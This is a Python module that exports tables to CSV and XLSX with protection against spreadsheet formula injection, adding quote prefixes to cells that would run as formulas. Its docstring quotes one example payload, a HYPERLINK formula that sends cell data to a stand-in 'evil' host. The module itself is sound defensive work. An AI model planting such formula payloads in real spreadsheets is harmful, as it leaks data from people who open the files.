"""Tables written for spreadsheets (CSV, XLSX), with no cell a spreadsheet would run.

A text cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return (or their
full-width forms U+FF1D, U+FF0B, U+FF0D, U+FF20, which some spreadsheets fold to them) is read
by Excel, LibreOffice and Google Sheets as a formula: a label such as
``=HYPERLINK("http://evil/?"&A1)`` in loaded data
would run when an auditor opens the export. Following the OWASP CSV-injection rule, such a cell
is written with a leading ``'``, which spreadsheets show as text. A cell that is a plain number
(``-3``, ``+1.5``) cannot run and is left as it is.

In XLSX every text cell is stored as a string (never a formula), and a cell that would look like
one is marked with Excel's quote prefix, so the workbook shows the value unchanged and editing
the cell does not turn it into a formula; numbers stay numbers.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable, Mapping
from typing import BinaryIO

#: what a spreadsheet reads as the start of a formula
FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")
_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")
#: control characters XLSX (XML 1.0) cannot hold
_NOT_IN_XML = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f]")

Cell = str | int | float | None


def runs_as_formula(text: str) -> bool:
    """A spreadsheet would evaluate ``text`` if it were typed into a cell."""
    return text.startswith(FORMULA_START) and not _NUMBER.fullmatch(text)


def neutralize(value: Cell) -> Cell:
    """``value`` as a spreadsheet shows it without running it: text that would run gets ``'``."""
    if isinstance(value, str) and runs_as_formula(value):
        return "'" + value
    return value


def rows_csv(rows: Iterable[Mapping[str, Cell]], columns: list[str]) -> str:
    """CSV (RFC 4180, ``\\n`` line ends) with a header row; every cell neutralized."""
    out = io.StringIO()
    write_csv(out, rows, columns)
    return out.getvalue()


def write_csv(out: io.TextIOBase, rows: Iterable[Mapping[str, Cell]],
              columns: list[str]) -> None:
    writer = csv.writer(out, lineterminator="\n")
    writer.writerow([_csv_cell(c) for c in columns])
    for row in rows:
        writer.writerow([_csv_cell(row.get(c)) for c in columns])


def _csv_cell(value: Cell) -> Cell:
    value = neutralize(value)
    # the writer quotes a cell with "\n" but not one with a bare "\r", which breaks the row
    return value.replace("\r\n", "\n").replace("\r", "\n") if isinstance(value, str) else value


def rows_xlsx(rows: list[dict[str, Cell]], out: BinaryIO, sheet_title: str) -> None:
    """A worksheet with a bold, frozen, filterable header; columns sized to their content."""
    from openpyxl import Workbook
    from openpyxl.styles import Font
    from openpyxl.utils import get_column_letter

    columns = list(rows[0]) if rows else []
    book = Workbook()
    sheet = book.active
    sheet.title = re.sub(r"[\\/*?:\[\]]", "-", sheet_title)[:31] or "Sheet"
    for row_number, values in enumerate([columns, *([r[c] for c in columns] for r in rows)],
                                        start=1):
        for column_number, value in enumerate(values, start=1):
            cell = sheet.cell(row=row_number, column=column_number)
            if isinstance(value, str):
                cell.value = _NOT_IN_XML.sub("", value)
                cell.data_type = "s"  # openpyxl takes a str starting with "=" for a formula
                if runs_as_formula(value):
                    cell.quotePrefix = True
            else:
                cell.value = value
            if row_number == 1:
                cell.font = Font(bold=True)
    sheet.freeze_panes = "A2"
    sheet.auto_filter.ref = sheet.dimensions
    for index, column in enumerate(columns, start=1):
        longest = max([len(column), *(len(str(r[column])) for r in rows)])
        sheet.column_dimensions[get_column_letter(index)].width = min(60, max(10, longest + 2))
    book.save(out)
